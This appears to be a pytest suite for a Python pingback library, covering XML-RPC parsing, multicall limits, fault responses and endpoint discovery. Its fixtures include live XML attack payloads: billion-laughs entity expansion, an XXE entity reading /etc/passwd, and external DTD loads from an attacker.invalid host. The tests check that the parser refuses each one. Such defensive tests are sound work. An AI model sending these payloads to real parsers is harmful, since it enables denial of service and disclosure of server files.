"""linkback.protocols._pingback: XML-RPC parsing (safely), pingback calls, answers, discovery.

Requests are built with ``xmlrpc.client.dumps`` and answers read back with
``xmlrpc.client.loads``, so both directions are checked against an independent implementation.
"""

from __future__ import annotations

import xmlrpc.client

import pytest

from linkback.errors import ProtocolError
from linkback.protocols._pingback import (
    FAULTS,
    PingbackCall,
    XmlRpcRequest,
    discover_endpoint,
    fault_response,
    multicall_response,
    parse_request,
    parse_response,
    ping_request,
    pingback_calls,
    pingback_link_tag,
    public_fault,
    success_response,
)

SRC = "https://source.example/post?a=1&b=2"
TGT = "https://target.example/2024/01/hello/"


def _call(method: str, *params, **kw) -> bytes:
    return xmlrpc.client.dumps(params, methodname=method, **kw).encode("utf-8")


def _multicall(*entries) -> bytes:
    return _call("system.multicall", list(entries))


def _ping(source: str = SRC, target: str = TGT) -> dict:
    return {"methodName": "pingback.ping", "params": [source, target]}


def _code(excinfo: pytest.ExceptionInfo) -> int | str:
    return excinfo.value.code


# --- parse_request ------------------------------------------------------------------------------


def test_faults_table():
    assert FAULTS == {
        "generic": 0,
        "source_not_found": 16,
        "no_link": 17,
        "target_not_found": 32,
        "target_not_supported": 33,
        "already_registered": 48,
        "access_denied": 49,
        "upstream": 50,
    }


def test_ping_round_trip():
    req = parse_request(_call("pingback.ping", SRC, TGT))
    assert req == XmlRpcRequest("pingback.ping", (SRC, TGT))
    assert pingback_calls(req) == [PingbackCall(SRC, TGT)]


def test_ping_request_parses_back():
    body = ping_request(SRC, TGT)
    assert xmlrpc.client.loads(body) == ((SRC, TGT), "pingback.ping")
    assert pingback_calls(parse_request(body)) == [PingbackCall(SRC, TGT)]


def test_values_decode_like_xmlrpc_loads():
    params = (
        "plain",
        "",
        "ünïcødé 日本 & <tags>",
        0,
        -(2**31),
        2**31 - 1,
        True,
        False,
        1.5,
        -0.25,
        b"\x00\x01binary\xff",
        xmlrpc.client.DateTime("20240102T03:04:05"),
        [1, "two", [3.0, {"four": [None]}]],
        {"a": {"b": {"c": []}}, "empty": {}},
        None,
    )
    body = _call("x.y", *params, allow_none=True)
    req = parse_request(body)
    assert req.method == "x.y"
    assert req.params == xmlrpc.client.loads(body)[0]
    assert isinstance(req.params[10], bytes)


@pytest.mark.parametrize(
    "value, expected",
    [
        ("<value>bare &amp; untyped</value>", "bare & untyped"),  # "no type → string"
        ("<value></value>", ""),
        ("<value/>", ""),
        ("<value><string/></value>", ""),
        ("<value>\n  <string> spaced </string>\n</value>", " spaced "),  # whitespace kept in strings
        ("<value><i4> 42 </i4></value>", 42),
        ("<value><int>-7</int></value>", -7),
        ("<value><boolean>1</boolean></value>", True),
        ("<value><double>-1.5e3</double></value>", -1500.0),
        ("<value><base64>aGk=</base64></value>", b"hi"),
        ("<value><string><![CDATA[<cdata> & stuff]]></string></value>", "<cdata> & stuff"),
        ("<value><string>&#233;&#x263A;</string></value>", "é☺"),
    ],
)
def test_value_forms(value, expected):
    body = f"<methodCall><methodName>m</methodName><params><param>{value}</param></params></methodCall>"
    assert parse_request(body.encode()).params == (expected,)


def test_untyped_string_params_and_entities():
    body = (
        b"<?xml version='1.0'?>\n<methodCall>\n<methodName> pingback.ping </methodName><params>"
        b"<param><value>http://s.example/?a=1&amp;b=2</value></param>"
        b"<param><value>\n http://t.example/?x=1&amp;amp;y=2 \n</value></param>"
        b"</params></methodCall>"
    )
    # "&amp;" is the XML escape; the doubled one is an href copied from HTML source, which
    # WordPress undoes too. Surrounding whitespace is trimmed as IXR does.
    assert pingback_calls(parse_request(body)) == [
        PingbackCall("http://s.example/?a=1&b=2", "http://t.example/?x=1&y=2")
    ]


def test_declared_legacy_encoding():
    body = (
        '<?xml version="1.0" encoding="ISO-8859-1"?><methodCall><methodName>pingback.ping</methodName>'
        "<params><param><value><string>http://s.example/café</string></value></param>"
        "<param><value><string>http://t.example/</string></value></param></params></methodCall>"
    ).encode("latin-1")
    assert pingback_calls(parse_request(body)) == [PingbackCall("http://s.example/café", "http://t.example/")]


def test_leading_whitespace_and_no_params():
    req = parse_request(
        b"\n  <?xml version='1.0'?><methodCall><methodName>system.listMethods</methodName></methodCall>"
    )
    assert req == XmlRpcRequest("system.listMethods", ())


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"not xml at all",
        b"<methodCall><methodName>pingback.ping</methodName>",  # truncated
        b"<methodCall></methodCall><extra/>",
        b"<methodCall><methodName>a&b</methodName></methodCall>",
        b"<methodCall><methodName>&undefined;</methodName></methodCall>",
        b"<methodCall><methodName>\xff\xfe</methodName></methodCall>",  # not UTF-8
    ],
)
def test_malformed_xml_is_parse_error(body):
    with pytest.raises(ProtocolError) as e:
        parse_request(body)
    assert _code(e) == -32700


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<methodCall><methodName>pingback.ping</methodName><params>
<param><value><string>&lol9;</string></value></param>
<param><value><string>http://t.example/</string></value></param>
</params></methodCall>"""

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<methodCall><methodName>pingback.ping</methodName><params>
<param><value><string>&xxe;</string></value></param>
<param><value><string>http://t.example/</string></value></param>
</params></methodCall>"""

XXE_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE methodCall SYSTEM "http://attacker.invalid/evil.dtd">
<methodCall><methodName>pingback.ping</methodName></methodCall>"""

XXE_PARAM = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://attacker.invalid/x.dtd"> %ext;]>
<methodCall><methodName>pingback.ping</methodName></methodCall>"""


@pytest.mark.parametrize("body", [BILLION_LAUGHS, XXE_FILE, XXE_DTD, XXE_PARAM], ids=["laughs", "file", "dtd", "param"])
def test_entity_attacks_refused_without_expansion(body):
    with pytest.raises(ProtocolError) as e:
        parse_request(body)
    assert _code(e) == -32700
    assert "lol" * 10 not in str(e.value) and "root:" not in str(e.value)


def test_too_big_refused_before_parsing():
    body = _call("pingback.ping", SRC, "http://t.example/" + "a" * 200_000)
    with pytest.raises(ProtocolError) as e:
        parse_request(body)
    assert _code(e) == -32600 and "too large" in str(e.value)
    small = _call("pingback.ping", SRC, TGT)
    with pytest.raises(ProtocolError):
        parse_request(small, max_bytes=len(small) - 1)
    assert parse_request(small, max_bytes=len(small)).method == "pingback.ping"


@pytest.mark.parametrize(
    "body",
    [
        xmlrpc.client.dumps(("ok",), methodresponse=True),  # a response, not a call
        "<methodcall><methodName>pingback.ping</methodName></methodcall>",  # case matters
        "<methodCall><params/></methodCall>",  # no methodName
        "<methodCall><methodName></methodName></methodCall>",
        "<methodCall><methodName>bad name!</methodName></methodCall>",
        "<methodCall><methodName>m</methodName><methodName>n</methodName></methodCall>",
        "<methodCall><methodName>m</methodName>stray text</methodCall>",
        "<methodCall><methodName>m</methodName><params><param><value><int>abc</int></value></param></params></methodCall>",
        "<methodCall><methodName>m</methodName><params><param><value><int>1.5</int></value></param></params></methodCall>",
        "<methodCall><methodName>m</methodName><params><param><value><boolean>yes</boolean></value></param></params></methodCall>",
        "<methodCall><methodName>m</methodName><params><param><value><double>nan</double></value></param></params></methodCall>",
        "<methodCall><methodName>m</methodName><params><param><value><base64>@@@</base64></value></param></params></methodCall>",
        "<methodCall><methodName>m</methodName><params><param><value><blob>x</blob></value></param></params></methodCall>",
        "<methodCall><methodName>m</methodName><params><param><value><string><b>x</b></string></value></param></params></methodCall>",
        "<methodCall><methodName>m</methodName><params><param><value>x<string>y</string></value></param></params></methodCall>",
        "<methodCall><methodName>m</methodName><params><param><value><string>a</string><string>b</string></value></param></params></methodCall>",
        "<methodCall><methodName>m</methodName><params><param/></params></methodCall>",
        "<methodCall><methodName>m</methodName><params><value>x</value></params></methodCall>",
        "<methodCall><methodName>m</methodName><params><param><value><array><value>1</value></array></value></param></params></methodCall>",
        "<methodCall><methodName>m</methodName><params><param><value><struct><member><name>a</name></member></struct></value></param></params></methodCall>",
    ],
)
def test_not_conforming_is_invalid_request(body):
    with pytest.raises(ProtocolError) as e:
        parse_request(body.encode())
    assert _code(e) == -32600


def test_deep_nesting_is_refused_not_a_recursion_error():
    depth = 5000
    value = "<value><array><data>" * depth + "<value>x</value>" + "</data></array></value>" * depth
    body = f"<methodCall><methodName>m</methodName><params><param>{value}</param></params></methodCall>"
    with pytest.raises(ProtocolError) as e:
        parse_request(body.encode(), max_bytes=10**6)
    assert _code(e) == -32600


# --- pingback_calls -----------------------------------------------------------------------------


@pytest.mark.parametrize("method", ["system.listMethods", "pingback.extensions.getPingbacks", "wp.getUsersBlogs"])
def test_other_methods_not_found(method):
    with pytest.raises(ProtocolError) as e:
        pingback_calls(parse_request(_call(method, "a", "b")))
    assert _code(e) == -32601


@pytest.mark.parametrize(
    "params",
    [
        (),
        (SRC,),
        (SRC, TGT, "extra"),
        (1, TGT),
        (SRC, {"url": TGT}),
        (SRC, [TGT]),
        (b"bytes", TGT),
        ("  ", TGT),
        (SRC, ""),
    ],
)
def test_wrong_params(params):
    with pytest.raises(ProtocolError) as e:
        pingback_calls(parse_request(_call("pingback.ping", *params)))
    assert _code(e) == -32602


def test_multicall_mixed_entries():
    body = _multicall(
        _ping(),
        _ping("http://s2.example/", TGT),
        {"methodName": "wp.getUsersBlogs", "params": ["admin", "password"]},
        {"methodName": "pingback.ping", "params": [SRC]},
        {"methodName": "system.multicall", "params": [[_ping()]]},
        "not a struct",
        {"params": [SRC, TGT]},
        {"methodName": "pingback.ping"},
    )
    got = pingback_calls(parse_request(body))
    assert got[:2] == [PingbackCall(SRC, TGT), PingbackCall("http://s2.example/", TGT)]
    assert [e.code for e in got[2:]] == [-32601, -32602, -32600, -32600, -32600, -32602]
    assert all(isinstance(e, ProtocolError) for e in got[2:])


def test_multicall_is_bounded():
    assert len(pingback_calls(parse_request(_multicall(*[_ping()] * 10)))) == 10
    with pytest.raises(ProtocolError) as e:
        pingback_calls(parse_request(_multicall(*[_ping()] * 11)))
    assert _code(e) == -32600
    assert len(pingback_calls(parse_request(_multicall(*[_ping()] * 11)), max_multicall=11)) == 11
    assert pingback_calls(parse_request(_multicall())) == []


@pytest.mark.parametrize("params", [(), ("x",), ([_ping()], [_ping()]), ({"a": 1},)])
def test_multicall_needs_one_array(params):
    with pytest.raises(ProtocolError) as e:
        pingback_calls(parse_request(_call("system.multicall", *params)))
    assert _code(e) == -32602


# --- answers ------------------------------------------------------------------------------------


def test_success_response():
    msg = "Pingback from a&b <x> to c registered. Keep the web talking! :-)"
    assert xmlrpc.client.loads(success_response(msg)) == ((msg,), None)


@pytest.mark.parametrize("code", [0, 16, 17, 32, 33, 48, 49, 50, -32700, -32601])
def test_fault_response(code):
    with pytest.raises(xmlrpc.client.Fault) as e:
        xmlrpc.client.loads(fault_response(code, "nope <&>"))
    assert e.value.faultCode == code and e.value.faultString == "nope <&>"


def test_answers_stay_well_formed_with_control_characters():
    assert xmlrpc.client.loads(success_response("a\x00b\x1fc"))[0] == ("a\ufffdb\ufffdc",)
    with pytest.raises(xmlrpc.client.Fault) as e:
        xmlrpc.client.loads(fault_response(0, "x\x0by"))
    assert e.value.faultString == "x\ufffdy"


def test_multicall_response():
    body = multicall_response(["registered", (48, "already registered"), (-32601, "no such method")])
    (results,), method = xmlrpc.client.loads(body)
    assert method is None
    assert results == [
        ["registered"],
        {"faultCode": 48, "faultString": "already registered"},
        {"faultCode": -32601, "faultString": "no such method"},
    ]
    assert xmlrpc.client.loads(multicall_response([]))[0] == ([],)


def test_public_fault():
    for code in (0, 16, 17, 32, 33, 49, 50):
        assert public_fault(code, "detail", generic=True) == (0, "")
        assert public_fault(code, "detail", generic=False) == (code, "detail")
    assert public_fault(48, "already registered", generic=True) == (48, "already registered")
    # XML-RPC protocol faults are outside WordPress's filter and say nothing about the site.
    assert public_fault(-32700, "parse error", generic=True) == (-32700, "parse error")


# --- discovery ----------------------------------------------------------------------------------

LINK_PAGE = b'<html><head><link rel="pingback" href="http://link.example/xmlrpc.php"></head></html>'


def test_header_overrides_link():
    headers = [
        ("Content-Type", "text/html"),
        ("x-PINGBACK", " http://header.example/xmlrpc "),
        ("X-Pingback", "http://second/"),
    ]
    assert discover_endpoint(headers, LINK_PAGE) == "http://header.example/xmlrpc"
    assert discover_endpoint([], LINK_PAGE) == "http://link.example/xmlrpc.php"
    assert discover_endpoint([("X-Pingback", "")], LINK_PAGE) == "http://link.example/xmlrpc.php"


@pytest.mark.parametrize(
    "body, expected",
    [
        ('<link rel="pingback" href="http://e.example/x" />', "http://e.example/x"),  # XHTML
        ('<link rel="pingback" href="http://e.example/x"/>', "http://e.example/x"),
        ('<link rel="pingback" href="http://e.example/x">', "http://e.example/x"),
        # Only the four entities, in one pass ("&amp;lt;" is "&lt;", not "<").
        (
            '<link rel="pingback" href="http://e.example/x?a=1&amp;b=&lt;&gt;&quot;&amp;lt;&#38;">',
            'http://e.example/x?a=1&b=<>"&lt;&#38;',
        ),
        # First match wins.
        ('<link rel="pingback" href="http://one/"><link rel="pingback" href="http://two/">', "http://one/"),
        # Not the spec's exact form: the spec RECOMMENDS clients be no more lenient.
        ('<link href="http://e.example/x" rel="pingback">', None),
        ("<link rel='pingback' href='http://e.example/x'>", None),
        ('<LINK REL="pingback" HREF="http://e.example/x">', None),
        ('<link rel="pingback"  href="http://e.example/x">', None),
        ('<link rel="pingback" href="">', None),
        ("<html><head><title>no endpoint</title></head></html>", None),
        ("", None),
    ],
)
def test_link_discovery(body, expected):
    assert discover_endpoint([], body) == expected
    assert (
        discover_endpoint([("Link", '<http://e/>; rel="pingback"')], body.encode()) == expected
    )  # Link header: not pingback


def test_link_discovery_hostile_page_fast():
    page = b'<link rel="pingback" href="' * 40_000
    assert discover_endpoint([], page) is None  # timed in bench/bench_hostile.py


def test_link_discovery_non_ascii_bytes():
    page = '<link rel="pingback" href="http://é.example/rpc">'
    assert discover_endpoint([], page.encode("utf-8")) == "http://é.example/rpc"
    assert discover_endpoint([], page.encode("latin-1")) == "http://é.example/rpc"


@pytest.mark.parametrize("endpoint", ["http://e.example/xmlrpc.php", 'http://e.example/x?a=1&b=<2>"3"'])
def test_link_tag_round_trip(endpoint):
    tag = pingback_link_tag(endpoint)
    assert tag.startswith('<link rel="pingback" href="') and tag.endswith('">')
    assert discover_endpoint([], f"<head>{tag}</head>") == endpoint
    assert pingback_link_tag("http://x/?a&b") == '<link rel="pingback" href="http://x/?a&amp;b">'


# --- parse_response -----------------------------------------------------------------------------


def test_parse_response_success_and_faults():
    assert parse_response(success_response("Pingback registered")) == (True, 0, "Pingback registered")
    assert parse_response(fault_response(48, "The pingback has already been registered.")) == (
        False,
        48,
        "The pingback has already been registered.",
    )
    assert parse_response(fault_response(17, "no link")) == (False, 17, "no link")
    assert parse_response(fault_response(0, "")) == (False, 0, "")


def test_parse_response_wordpress_style():
    body = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n<methodResponse>\n  <params>\n    <param>\n      <value>\n'
        b"      <string>Pingback from http://a/ to http://b/ registered. Keep the web talking! :-)</string>\n"
        b"      </value>\n    </param>\n  </params>\n</methodResponse>\n"
    )
    assert parse_response(body) == (
        True,
        0,
        "Pingback from http://a/ to http://b/ registered. Keep the web talking! :-)",
    )
    fault = (
        b"<methodResponse><fault><value><struct><member><name>faultString</name><value><string>x</string></value>"
        b"</member><member><name>faultCode</name><value><string>48</string></value></member></struct></value>"
        b"</fault></methodResponse>"
    )
    assert parse_response(fault) == (False, 48, "x")


def test_parse_response_non_string_success():
    assert parse_response(xmlrpc.client.dumps((1,), methodresponse=True).encode()) == (True, 0, "")


@pytest.mark.parametrize(
    "body, code",
    [
        (b"", -32700),
        (b"<html><body>500 Internal Server Error</body></html", -32700),
        (b"Pingback registered", -32700),
        (BILLION_LAUGHS.replace(b"methodCall", b"methodResponse"), -32700),
        (b"<html><body>ok</body></html>", -32600),
        (ping_request(SRC, TGT), -32600),
        (b"<methodResponse></methodResponse>", -32600),
        (b"<methodResponse><fault><value><string>x</string></value></fault></methodResponse>", -32600),
    ],
)
def test_parse_response_garbage(body, code):
    ok, got, message = parse_response(body)
    assert not ok and got == code and message.startswith("malformed response")
